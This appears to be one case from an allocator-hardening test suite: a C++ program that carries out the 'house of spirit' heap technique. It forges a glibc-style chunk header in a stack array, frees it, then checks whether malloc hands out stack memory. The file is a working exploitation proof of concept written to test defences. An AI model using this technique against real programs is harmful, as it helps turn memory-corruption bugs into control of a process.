// SPDX-License-Identifier: MIT
//
// house_of_spirit SIZE: an array on the stack is made to look like a chunk of glibc's, and freed; others see a foreign
// pointer. Exploitable: malloc hands the stack out.
#include "attack.h"

int main(int argc, char** argv) {
  using namespace attack;
  const size_t size = start(argc, argv);
  settle(size);
  alignas(16) size_t fake[8192] = {};
  const size_t chunk = (size + sizeof(size_t) + 15) & ~size_t{15};
  fake[1] = chunk;
  fake[1 + chunk / sizeof(size_t)] = 65;  // the size of the next one
  unsigned char* const inside = bytes(&fake[2]);
  begin();
  free(hide(inside));
  done();
  for (int i = 0; i < kMany; ++i) {
    unsigned char* block = bytes(malloc(size));
    if (block >= bytes(fake) && block < bytes(fake) + sizeof fake) exploited("malloc hands out the stack");
    own(block, size);
  }
  check_contents();
  unharmed();
}
